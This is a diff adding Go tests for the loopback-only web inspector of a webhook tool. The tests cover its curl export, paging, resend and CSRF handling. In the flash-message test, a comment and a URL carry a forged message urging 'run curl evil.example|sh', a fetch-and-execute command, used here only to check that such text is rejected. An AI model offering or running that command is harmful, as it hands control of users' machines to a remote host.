@@ -1,20 +1,28 @@
 package web_test
 
 import (
+	"bytes"
 	"context"
+	"encoding/json"
+	"errors"
 	"html"
 	"io"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/hookctl/hookctl/internal/catalog"
 	"github.com/hookctl/hookctl/internal/service"
 	"github.com/hookctl/hookctl/internal/store"
 	"github.com/hookctl/hookctl/internal/store/sqlite"
+	"github.com/hookctl/hookctl/internal/subscription"
 	"github.com/hookctl/hookctl/internal/web"
 )
 
@@ -142,6 +150,27 @@ func TestDiffJSON(t *testing.T) {
 	if strings.Join(got, "|") != want {
 		t.Errorf("diff = %q, want %q", strings.Join(got, "|"), want)
 	}
+
+	// Different documents are never reported identical: a dotted key is
+	// not a nested object, and large ids that float64 would round to the
+	// same value differ.
+	for _, tc := range []struct{ a, b, want string }{
+		{`{"a.b":1}`, `{"a":{"b":1}}`, `removed ["a.b"]|added a.b`},
+		{`{"id":12345678901234567891}`, `{"id":12345678901234567892}`, `changed id`},
+		{`{"m":{"user id":"x"}}`, `{"m":{"user id":"y"}}`, `changed m["user id"]`},
+	} {
+		lines, err := web.DiffJSON([]byte(tc.a), []byte(tc.b))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, l := range lines {
+			got = append(got, l.Kind+" "+l.Path)
+		}
+		if strings.Join(got, "|") != tc.want {
+			t.Errorf("diff %s %s = %q, want %q", tc.a, tc.b, strings.Join(got, "|"), tc.want)
+		}
+	}
 }
 
 func postForm(t *testing.T, srv *httptest.Server, h *web.Handler, path string, v url.Values) (int, string, http.Header) {
@@ -228,5 +257,461 @@ func TestDetailPendingAndDownload(t *testing.T) {
 	code, body, hdr := send(t, req)
 	if code != 200 || body != `<doc><a>1</a></doc>` || !strings.Contains(hdr.Get("Content-Disposition"), "attachment") || !strings.HasSuffix(strings.Trim(hdr.Get("Content-Disposition"), `"`), ".xml") {
 		t.Errorf("download: %d %q %v", code, body, hdr)
+	}
+}
+
+// Start serves loopback only: the inspector has no login, and with a
+// wildcard address it would answer the network (a Host header naming the
+// wildcard passed the DNS-rebinding check) while refusing the user's own
+// browser at 127.0.0.1.
+func TestStartLoopbackOnly(t *testing.T) {
+	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	for _, addr := range []string{"0.0.0.0:0", "[::]:0", ":0", "192.0.2.7:0"} {
+		_, _, err := web.Start(context.Background(), addr, web.Config{Store: st})
+		var nl *web.NotLoopbackError
+		if !errors.As(err, &nl) {
+			t.Errorf("Start(%q) = %v, want a NotLoopbackError", addr, err)
+		}
+	}
+	for _, addr := range []string{"127.0.0.1:0", "localhost:0"} {
+		u, stop, err := web.Start(context.Background(), addr, web.Config{Store: st})
+		if err != nil {
+			t.Errorf("Start(%q): %v", addr, err)
+			continue
+		}
+		resp, err := http.Get(u)
+		if err != nil {
+			t.Errorf("GET %s: %v", u, err)
+		} else if resp.Body.Close(); resp.StatusCode != 200 {
+			t.Errorf("GET %s: %d", u, resp.StatusCode)
+		}
+		stop()
+	}
+}
+
+// Copy as curl reproduces the body byte for byte, a binary one too: the
+// command taken from the page (as the clipboard gets it) is run by a shell
+// and the receiver compares what arrives with what was stored.
+func TestCopyAsCurlBodyBytes(t *testing.T) {
+	for _, tool := range []string{"bash", "curl", "base64"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("no %s to run the command", tool)
+		}
+	}
+	_, srv, st := newHandler(t)
+	got := make(chan []byte, 1)
+	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		got <- b
+	}))
+	defer recv.Close()
+	d := &service.Dispatcher{Store: st}
+	for name, payload := range map[string][]byte{
+		"binary": append([]byte{0, 1, 2, 0xff, 0xfe, '\'', '\n', 0x1b}, []byte("\x89PNG\r\n\x1a\n tail")...),
+		"text":   []byte("{\"note\":\"it's <b>bold</b>\\n\",\"é\":\"ü\"}\n"),
+	} {
+		pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
+			Payload: payload, ContentType: "application/octet-stream"},
+			service.Target{URL: recv.URL + "/hook", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+pub.Deliveries[0].ID, nil)
+		_, page, _ := send(t, req)
+		m := regexp.MustCompile(`(?s)<pre id="curl" data-testid="curl">(.*?)</pre>`).FindStringSubmatch(page)
+		if m == nil {
+			t.Fatalf("%s: no curl command on the page", name)
+		}
+		cmdline := strings.ToValidUTF8(html.UnescapeString(m[1]), "\uFFFD") // what a browser shows and copies
+		out, err := exec.Command("bash", "-c", cmdline+" -sS -o /dev/null").CombinedOutput()
+		if err != nil {
+			t.Fatalf("%s: %v: %s\n%s", name, err, out, cmdline)
+		}
+		select {
+		case b := <-got:
+			if !bytes.Equal(b, payload) {
+				t.Errorf("%s: copy as curl sent %q, want %q\n%s", name, b, payload, cmdline)
+			}
+		case <-time.After(5 * time.Second):
+			t.Fatalf("%s: the receiver got nothing", name)
+		}
+	}
+}
+
+// Paging the log keeps every event without a delivery (what listen
+// received and did not forward): one that arrived between the last row of
+// a page and the first of the next was on neither page.
+func TestLogPagesKeepEventsBetweenPages(t *testing.T) {
+	_, srv, st := newHandler(t)
+	d := &service.Dispatcher{Store: st}
+	publish := func(n int) {
+		for range n {
+			if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
+				Payload: []byte(`{"n":1}`), ContentType: "application/json"},
+				service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		time.Sleep(2 * time.Millisecond)
+	}
+	// Between the 70th and 71st deliveries: page 1 ends at the 71st
+	// (50 newest of 120), page 2 starts at the 70th.
+	publish(70)
+	ev := &store.Event{ID: "evt_between_pages", Type: "card.created", Provider: "bond", Source: store.SourceReceived,
+		Payload: []byte(`{}`), ContentType: "application/json", Verdict: "valid"}
+	if err := st.CreateEvent(context.Background(), ev, nil); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(2 * time.Millisecond)
+	publish(50)
+	rows := regexp.MustCompile(`<tr data-testid="(?:delivery|event)-row" data-(?:delivery|event)-id="([^"]+)"`)
+	older := regexp.MustCompile(`href="(/\?[^"]*before=\d+)"`)
+	seen := map[string]int{}
+	next := "/"
+	for pages := 0; next != "" && pages < 10; pages++ {
+		req, _ := http.NewRequest("GET", srv.URL+next, nil)
+		code, body, _ := send(t, req)
+		if code != 200 {
+			t.Fatalf("GET %s: %d", next, code)
+		}
+		for _, m := range rows.FindAllStringSubmatch(body, -1) {
+			seen[m[1]]++
+		}
+		next = ""
+		if m := older.FindStringSubmatch(body); m != nil {
+			next = html.UnescapeString(m[1])
+		}
+	}
+	if seen["evt_between_pages"] != 1 {
+		t.Errorf("the event between two pages was shown %d times, want once", seen["evt_between_pages"])
+	}
+	if len(seen) != 121 {
+		t.Errorf("%d rows over the pages, want 120 deliveries and the event", len(seen))
+	}
+}
+
+// The message shown after an action comes from the action's redirect
+// only: a link from elsewhere cannot put its own words on the page
+// (http://127.0.0.1:4040/?flash=Your+store+is+corrupt:+run+curl+…|sh).
+func TestFlashOnlyFromActions(t *testing.T) {
+	h, srv, st := newHandler(t)
+	for _, u := range []string{"/?flash=Your+store+is+corrupt%3A+run+curl+evil.example%7Csh", "/subscriptions?flash=x&fs=forged"} {
+		req, _ := http.NewRequest("GET", srv.URL+u, nil)
+		code, body, _ := send(t, req)
+		if code != 200 || strings.Contains(body, `data-testid="flash"`) {
+			t.Errorf("GET %s showed a flash message from the URL (%d)", u, code)
+		}
+	}
+	cat, _ := catalog.Load(catalog.Options{})
+	d := &service.Dispatcher{Store: st, Catalog: cat}
+	pub, err := d.Trigger(context.Background(), service.TriggerInput{Type: "card.created", Provider: "bond",
+		Target: service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/replay", strings.NewReader(url.Values{"_csrf": {h.CSRFToken()}}.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	code, _, hdr := send(t, req)
+	if code != http.StatusSeeOther {
+		t.Fatalf("replay: %d", code)
+	}
+	req, _ = http.NewRequest("GET", srv.URL+hdr.Get("Location"), nil)
+	if _, body, _ := send(t, req); !strings.Contains(body, `data-testid="flash">replay queued`) {
+		t.Errorf("the replay's own redirect shows no flash message:\n%s", body)
+	}
+}
+
+// Edit and resend of a listen forward goes to the app it was forwarded to,
+// signed with the listener's secret, also once listen has stopped (its
+// subscription disabled): it was published to the listener's subscription
+// instead, which failed with "subscription … is disabled".
+func TestResendForwardGoesToTheApp(t *testing.T) {
+	h, srv, st := newHandler(t)
+	cat, _ := catalog.Load(catalog.Options{})
+	subs := &subscription.Service{Store: st, Catalog: cat}
+	sub, err := subs.Create(context.Background(), subscription.CreateInput{URL: "http://127.0.0.1:8787/", Events: []string{"*"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := subs.SetStatus(context.Background(), sub.ID, store.StatusDisabled); err != nil {
+		t.Fatal(err)
+	}
+	ev := &store.Event{ID: "evt_fwd", Type: "card.created", Provider: "bond", Source: store.SourceReceived, Verdict: "valid",
+		Payload: []byte(`{"event":"card.created","n":1}`), ContentType: "application/json"}
+	fwd := &store.Delivery{Kind: store.KindForward, SubscriptionID: sub.ID, URL: "http://127.0.0.1:3000/webhooks",
+		Status: store.DeliverySucceeded, AttemptCount: 1, MaxAttempts: 1, Schedule: "0s"}
+	if err := st.CreateEvent(context.Background(), ev, []*store.Delivery{fwd}); err != nil {
+		t.Fatal(err)
+	}
+	form := url.Values{"_csrf": {h.CSRFToken()}, "body": {`{"event":"card.created","n":2}`}}
+	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+fwd.ID+"/resend", strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	code, body, hdr := send(t, req)
+	if code != http.StatusSeeOther {
+		t.Fatalf("resend of a forward: %d\n%s", code, body)
+	}
+	id := strings.TrimPrefix(strings.SplitN(hdr.Get("Location"), "?", 2)[0], "/deliveries/")
+	d, err := st.GetDelivery(context.Background(), id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d.URL != fwd.URL || d.Secret != sub.Secret || d.Scheme != "bond" || d.Kind != store.KindEdited || d.OriginID != fwd.ID {
+		t.Errorf("edited copy: url %s scheme %q secret %q kind %s origin %s; want %s, bond, the listener's secret, edited from %s",
+			d.URL, d.Scheme, d.Secret, d.Kind, d.OriginID, fwd.URL, fwd.ID)
+	}
+}
+
+// Mounted by a server on a wildcard or public address (serve --host
+// 0.0.0.0 --api-key K), the inspector refuses every request: it has no
+// login, and a Host header naming the wildcard passed the DNS-rebinding
+// check, so anyone on the network read the secrets the API key protects.
+func TestNewRefusesWhenNotLoopback(t *testing.T) {
+	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	for _, addr := range []string{"[::]:8788", "0.0.0.0:8788", "192.0.2.7:8788"} {
+		h, err := web.New(web.Config{Store: st, Addr: addr})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, p := range []string{"/", "/subscriptions", "/static/app.js"} {
+			req := httptest.NewRequest("GET", "http://"+addr+p, nil)
+			req.Host = addr
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "loopback addresses only") {
+				t.Errorf("%s%s: %d %q", addr, p, rec.Code, rec.Body.String())
+			}
+		}
+	}
+}
+
+// The live stream outlives the server's WriteTimeout (serve sets 60s): it
+// was cut every minute and the page flickered "reconnecting…".
+func TestLiveOutlivesWriteTimeout(t *testing.T) {
+	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	srv := httptest.NewUnstartedServer(nil)
+	srv.Config.WriteTimeout = 500 * time.Millisecond
+	h, err := web.New(web.Config{Store: st, Addr: srv.Listener.Addr().String(), Poll: 50 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv.Config.Handler = h
+	srv.Start()
+	defer srv.Close()
+	resp, err := http.Get(srv.URL + "/live")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	time.Sleep(1200 * time.Millisecond) // past the write deadline
+	d := &service.Dispatcher{Store: st}
+	if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{"late":1}`), ContentType: "application/json"},
+		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}); err != nil {
+		t.Fatal(err)
+	}
+	got := make(chan string, 1)
+	go func() {
+		var b strings.Builder
+		buf := make([]byte, 4096)
+		for {
+			n, err := resp.Body.Read(buf)
+			b.Write(buf[:n])
+			if strings.Contains(b.String(), "event: rows") || err != nil {
+				got <- b.String()
+				return
+			}
+		}
+	}()
+	select {
+	case s := <-got:
+		if !strings.Contains(s, "event: rows") {
+			t.Errorf("the stream ended after the server's write timeout: %q", s)
+		}
+	case <-time.After(5 * time.Second):
+		t.Error("no rows on the stream")
+	}
+}
+
+// Edit and resend keeps what the user did not change: a binary body is
+// resent as stored (a text field turned its bytes into U+FFFD), and an
+// XML body is offered as it was sent (indented, it was resent indented).
+func TestEditKeepsBodyBytes(t *testing.T) {
+	h, srv, st := newHandler(t)
+	d := &service.Dispatcher{Store: st}
+	publish := func(payload []byte, ct string) string {
+		pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: payload, ContentType: ct},
+			service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return pub.Deliveries[0].ID
+	}
+	bin := []byte{0x89, 'P', 'N', 'G', 0, 0xff, 0xfe, '\n', 1}
+	id := publish(bin, "application/octet-stream")
+	req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+id+"/edit", nil)
+	if _, page, _ := send(t, req); !strings.Contains(page, `data-testid="edit-binary"`) || strings.Contains(page, `data-testid="edit-body"`) {
+		t.Errorf("edit page of a binary body offers it as text:\n%s", page)
+	}
+	form := url.Values{"_csrf": {h.CSRFToken()}, "keep_body": {"1"}, "headers": {"X-Try: 2"}}
+	req, _ = http.NewRequest("POST", srv.URL+"/deliveries/"+id+"/resend", strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	code, body, hdr := send(t, req)
+	if code != http.StatusSeeOther {
+		t.Fatalf("resend: %d %s", code, body)
+	}
+	nd, err := st.GetDelivery(context.Background(), strings.TrimPrefix(strings.SplitN(hdr.Get("Location"), "?", 2)[0], "/deliveries/"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	ev, err := st.GetEvent(context.Background(), nd.EventID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(ev.Payload, bin) || nd.Headers["X-Try"] != "2" {
+		t.Errorf("resent body %q headers %v, want the stored bytes and X-Try: 2", ev.Payload, nd.Headers)
+	}
+
+	id = publish([]byte(`<doc><a>1</a></doc>`), "application/xml")
+	req, _ = http.NewRequest("GET", srv.URL+"/deliveries/"+id+"/edit", nil)
+	if _, page, _ := send(t, req); !strings.Contains(page, `spellcheck="false">&lt;doc&gt;&lt;a&gt;1&lt;/a&gt;&lt;/doc&gt;</textarea>`) {
+		t.Errorf("edit page of an XML body does not offer it as sent:\n%s", page)
+	}
+}
+
+// A form over the size limit is refused as too large: it was answered
+// "missing or wrong CSRF token (reload the page)" (the unread form lacked
+// its token), and with the token in a header the handler saw an empty body
+// and resent an empty edited copy.
+func TestTooLargeForm(t *testing.T) {
+	h, srv, st := newHandler(t)
+	d := &service.Dispatcher{Store: st}
+	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{"a":1}`), ContentType: "application/json"},
+		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	big := `{"pad":"` + strings.Repeat("x", 9<<20) + `"}`
+	for _, inHeader := range []bool{false, true} {
+		form := url.Values{"body": {big}}
+		if !inHeader {
+			form.Set("_csrf", h.CSRFToken())
+		}
+		req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/resend", strings.NewReader(form.Encode()))
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		if inHeader {
+			req.Header.Set("X-CSRF-Token", h.CSRFToken())
+		}
+		code, body, _ := send(t, req)
+		if code != http.StatusRequestEntityTooLarge || !strings.Contains(body, "larger than 8 MiB") {
+			t.Errorf("token in header %v: %d %q", inHeader, code, body)
+		}
+	}
+	if ds, _ := st.ListDeliveries(context.Background(), store.DeliveryFilter{Limit: 10}); len(ds) != 1 {
+		t.Errorf("%d deliveries after refused resends, want the original only", len(ds))
+	}
+}
+
+// The largest body listen accepts by default (1 MiB), indented on the edit
+// page and form-encoded by the browser, can be resent.
+func TestEditLargeBody(t *testing.T) {
+	h, srv, st := newHandler(t)
+	d := &service.Dispatcher{Store: st}
+	item := `{"k":"\"q\"","n":[1,2]}`
+	payload := "[" + strings.Repeat(item+",", (1<<20-100)/(len(item)+1)) + item + "]"
+	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(payload), ContentType: "application/json"},
+		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var pretty bytes.Buffer
+	json.Indent(&pretty, []byte(payload), "", "  ")
+	form := url.Values{"_csrf": {h.CSRFToken()}, "body": {pretty.String()}}
+	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/resend", strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	if code, body, _ := send(t, req); code != http.StatusSeeOther {
+		t.Errorf("resend of a 1 MiB JSON body (%d bytes as a form): %d %.200s", len(form.Encode()), code, body)
+	}
+}
+
+type inspectorStore interface {
+	store.Store
+	store.Inspector
+}
+
+// racyStore stores a delivery matching the live log's filter right after
+// the stream's filtered read, before its next read of the newest seq:
+// the order in which a busy store can interleave them.
+type racyStore struct {
+	inspectorStore
+	mu       sync.Mutex
+	inserted bool
+	insert   func()
+}
+
+func (s *racyStore) InspectDeliveries(ctx context.Context, q store.InspectQuery) (*store.InspectPage, error) {
+	pg, err := s.inspectorStore.InspectDeliveries(ctx, q)
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if q.Tail && q.Filtered() && !s.inserted && len(pg.Rows) == 0 {
+		s.inserted = true
+		s.insert()
+	}
+	return pg, err
+}
+
+// A live log with a filter does not skip a matching delivery stored
+// between its filtered read and its move of the cursor to the newest.
+func TestLiveFilterDoesNotSkip(t *testing.T) {
+	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	d := &service.Dispatcher{Store: st}
+	publish := func(typ string) string {
+		pub, err := d.Publish(context.Background(), &store.Event{Type: typ, Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"},
+			service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", Schedule: []time.Duration{time.Hour}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return pub.Deliveries[0].ID
+	}
+	publish("card.status.active")
+	var want string
+	rs := &racyStore{inspectorStore: st.(inspectorStore)}
+	rs.insert = func() { want = publish("card.created") }
+	srv := httptest.NewUnstartedServer(nil)
+	h, err := web.New(web.Config{Store: rs, Addr: srv.Listener.Addr().String(), Poll: 50 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv.Config.Handler = h
+	srv.Start()
+	defer srv.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
+	defer cancel()
+	req, _ := http.NewRequestWithContext(ctx, "GET", srv.URL+"/live?type=card.created", nil)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body) // until the timeout
+	if want == "" {
+		t.Fatal("the filtered read never happened")
+	}
+	if !strings.Contains(string(b), want) {
+		t.Errorf("delivery %s (card.created) stored during the stream never came on a type=card.created stream:\n%s", want, b)
 	}
 }
